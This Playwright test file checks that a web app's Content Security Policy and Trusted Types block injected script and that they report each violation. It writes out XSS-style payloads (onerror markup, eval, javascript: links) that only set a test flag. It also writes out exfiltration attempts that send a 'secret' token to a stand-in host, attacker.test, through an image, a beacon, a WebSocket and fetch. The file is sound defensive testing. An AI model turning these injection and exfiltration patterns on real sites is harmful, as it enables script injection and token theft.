import { type Page } from '@playwright/test';

import { expect, test } from './fixtures.ts';
import { attackerPage, serveWithoutPolicy } from './lock-down/attacker-page.ts';

/** What a page does that somebody has got hold of. Each runs in a task of its own, as what a debugger runs is free of the policy. */
const SCRIPTS: readonly (readonly [what: string, attack: () => void])[] = [
  [
    'an element with script in it',
    () => {
      setTimeout(() => {
        const script = document.createElement('script');
        script.append('globalThis.attacked = true');
        document.body.append(script);
      });
    },
  ],
  [
    'markup with a handler',
    () => {
      setTimeout(() => {
        const place = document.createElement('div');
        document.body.append(place);
        try {
          place.innerHTML = '<img src="/missing.png" onerror="globalThis.attacked = true">';
        } catch {
          // Trusted Types throw: a string is no markup.
        }
      });
    },
  ],
  [
    'an attribute that is a handler',
    () => {
      setTimeout(() => {
        const link = document.createElement('a');
        document.body.append(link);
        try {
          link.setAttribute('onclick', 'globalThis.attacked = true');
        } catch {
          // As above.
        }
        link.click();
      });
    },
  ],
  [
    'eval',
    () => {
      setTimeout(() => {
        try {
          // eslint-disable-next-line no-eval -- It is what is tried.
          (0, eval)('globalThis.attacked = true');
        } catch {
          // An EvalError, or a TypeError by Trusted Types.
        }
      });
    },
  ],
  [
    'a function made of text',
    () => {
      setTimeout(() => {
        try {
          // eslint-disable-next-line no-new-func, @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- It is what is tried.
          new Function('globalThis.attacked = true')();
        } catch {
          // As above.
        }
      });
    },
  ],
  [
    'a timer with text',
    () => {
      setTimeout(() => {
        try {
          // eslint-disable-next-line @typescript-eslint/no-implied-eval -- It is what is tried.
          setTimeout('globalThis.attacked = true');
        } catch {
          // As above.
        }
      });
    },
  ],
  [
    'a link of script',
    () => {
      setTimeout(() => {
        const link = document.createElement('a');
        link.setAttribute('href', 'javascript:void (globalThis.attacked = true)');
        document.body.append(link);
        link.click();
      });
    },
  ],
];

test.use({
  expectedConsoleErrors: [/Content Security Policy|Trusted|Framing|status of 404/i],
});

test.describe('script that somebody gets into the page', () => {
  for (const [what, attack] of SCRIPTS) {
    test(`${what} does not run, and is reported`, async ({ page, policyReports }) => {
      await openStartPage(page);
      await page.evaluate(attack);
      await expect.poll(() => policyReports.all.length).toBeGreaterThan(0);
      expect(await isAttacked(page)).toBe(false);
      for (const { directive } of policyReports.take())
        expect(directive).toMatch(/^(?:script-src(?:-elem|-attr)?|require-trusted-types-for)$/);
    });

    test(`${what} would run without the policy`, async ({ page, environment }) => {
      await serveWithoutPolicy(page, environment.app);
      await openStartPage(page);
      await page.evaluate(attack);
      await expect.poll(() => isAttacked(page)).toBe(true);
    });
  }
});

test.describe('what else somebody gets into the page', () => {
  test('a style element styles nothing', async ({ page, policyReports }) => {
    await openStartPage(page);
    await page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { visibility: hidden; }';
      document.head.append(style);
      const cover = document.createElement('p');
      cover.setAttribute('style', 'position: fixed; inset: 0');
      document.body.append(cover);
    });
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect
      .poll(() => directivesOf(policyReports.all))
      .toEqual(['style-src-attr', 'style-src-elem']);
    policyReports.take();
  });

  test('no policy of Trusted Types can be made to get around them', async ({
    page,
    policyReports,
  }) => {
    await openStartPage(page);
    const names = await page.evaluate(() => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
      };
      return ['default', 'angular', 'angular#unsafe-bypass', 'mine'].filter((name) => {
        try {
          trustedTypes.createPolicy(name, { createHTML: (text: string) => text });
          return true;
        } catch {
          return false;
        }
      });
    });
    expect(names).toEqual([]);
    await expect.poll(() => directivesOf(policyReports.all)).toEqual(['trusted-types']);
    policyReports.take();
  });

  test('nothing goes to another site: no request, no picture, no beacon, no socket', async ({
    page,
    policyReports,
  }) => {
    await openStartPage(page);
    const sent: string[] = [];
    page.on('requestfinished', (request) => sent.push(request.url()));
    const outcomes = await page.evaluate(async () => {
      const away = 'https://attacker.test/take?token=secret';
      const picture = new Image();
      picture.src = away;
      window.navigator.sendBeacon(away, 'secret');
      try {
        new WebSocket('wss://attacker.test/take').addEventListener('error', () => undefined);
      } catch {
        // Browsers differ in whether they throw or tell the socket.
      }
      const taken = await fetch(away, { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      );
      const changed = await new Promise((resolve) => {
        picture.addEventListener('error', () => {
          resolve('refused');
        });
        if (picture.complete) resolve('refused');
      });
      return [taken, changed];
    });
    expect(outcomes).toEqual(['refused', 'refused']);
    expect(sent.filter((url) => url.includes('attacker.test'))).toEqual([]);
    await expect.poll(() => policyReports.all.length).toBeGreaterThanOrEqual(4);
    expect(directivesOf(policyReports.all)).toEqual(['connect-src', 'img-src']);
    for (const { blocked } of policyReports.take()) expect(blocked).toContain('attacker.test');
  });

  test('a form takes nothing away, to another site or to ours', async ({ page, policyReports }) => {
    await openStartPage(page);
    const before = page.url();
    for (const action of ['https://attacker.test/take', '/take']) {
      await page.evaluate((address) => {
        const form = document.createElement('form');
        form.action = address;
        document.body.append(form);
        form.submit();
      }, action);
      await expect.poll(() => directivesOf(policyReports.all)).toEqual(['form-action']);
      policyReports.take();
    }
    expect(page.url()).toBe(before);
  });

  test('a base of another site moves no address', async ({ page, policyReports }) => {
    await openStartPage(page);
    const address = await page.evaluate(() => {
      const base = document.createElement('base');
      base.href = 'https://attacker.test/';
      document.head.prepend(base);
      return new URL('config.json', document.baseURI).origin;
    });
    expect(address).toBe(new URL(page.url()).origin);
    await expect.poll(() => directivesOf(policyReports.all)).toEqual(['base-uri']);
    policyReports.take();
  });

  test('no other site is framed, no plug-in is asked and no worker is started', async ({
    page,
    policyReports,
  }) => {
    await openStartPage(page);
    const thrown = await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.test/';
      const picture = document.createElement('embed');
      const tries = [
        (): void => {
          picture.src = '/favicon.svg';
        },
        (): unknown => new window.Worker('/config.json'),
      ];
      document.body.append(frame, picture);
      return tries.map((attempt) => {
        try {
          attempt();
          return null;
        } catch (error) {
          return (error as Error).name;
        }
      });
    });
    // Trusted Types: a string is no address of script.
    expect(thrown).toEqual(['TypeError', 'TypeError']);
    await expect
      .poll(() => directivesOf(policyReports.all))
      .toEqual(['frame-src', 'require-trusted-types-for']);
    policyReports.take();
  });
});

test.describe('another site', () => {
  test('frames a page that allows it, and of ours it gets an error in its place', async ({
    page,
    environment,
  }) => {
    await attackerPage(
      page,
      `<iframe title="theirs" src="https://framed.test/"></iframe>
       <iframe title="ours" src="${environment.app}/"></iframe>`,
    );
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .toContain('chrome-error://chromewebdata/');
    const [theirs, ours] = ['theirs', 'ours'].map((title) =>
      page.frameLocator(`[title="${title}"]`),
    );
    await expect(theirs!.getByRole('heading', { name: 'Framed' })).toBeVisible();
    await expect(ours!.getByRole('heading', { name: /ExampleCo/ })).toHaveCount(0);
    for (const frame of page.frames().slice(1)) expect(frame.url()).not.toContain(environment.app);
  });

  // A page that begins at the callback goes on to the whole application, in the same document.
  for (const path of ['/', '/callback']) {
    test(`loses the window in which it has opened ours at ${path}`, async ({
      page,
      context,
      environment,
    }) => {
      await attackerPage(page, '<button>Open</button>');
      const opened = context.waitForEvent('page');
      await page.evaluate((address) => {
        Object.assign(globalThis, { opened: window.open(address, 'bait') });
      }, `${environment.app}${path}`);
      const ours = await opened;
      await expect(ours.getByRole('heading', { level: 1 })).toBeVisible();
      await expect
        .poll(() =>
          page.evaluate(() => (globalThis as unknown as { opened: Window }).opened.closed),
        )
        .toBe(true);
      expect(await ours.evaluate(() => window.opener as unknown)).toBeNull();
      expect(ours.isClosed()).toBe(false);
    });
  }
});

test('the hidden frame of the silent check shows the tenant, and never a page of ours', async ({
  page,
  person,
  environment,
}) => {
  await page.goto('/timesheets');
  await page.getByLabel('Email').fill(person.email);
  await page.getByLabel('Password').fill(person.password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await page.getByRole('button', { name: 'Accept' }).click();
  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible();
  const framed: string[] = [];
  page.on('framenavigated', (frame) => {
    if (frame.parentFrame() !== null) framed.push(new URL(frame.url()).origin);
  });
  await page.reload();
  await expect(page.getByRole('button', { name: 'Sign out' })).toBeVisible();
  expect(framed).toContain(environment.tenant);
  expect(framed).not.toContain(environment.app);
});

test('the browser knows every name in the headers', async ({ page }) => {
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (/header|feature|directive/i.test(message.text())) complaints.push(message.text());
  });
  await openStartPage(page);
  expect(complaints).toEqual([]);
});

async function openStartPage(page: Page): Promise<void> {
  await page.goto('/');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
}

function isAttacked(page: Page): Promise<boolean> {
  return page.evaluate(() => 'attacked' in globalThis);
}

function directivesOf(reports: readonly { readonly directive: string }[]): string[] {
  return [...new Set(reports.map(({ directive }) => directive))].sort();
}
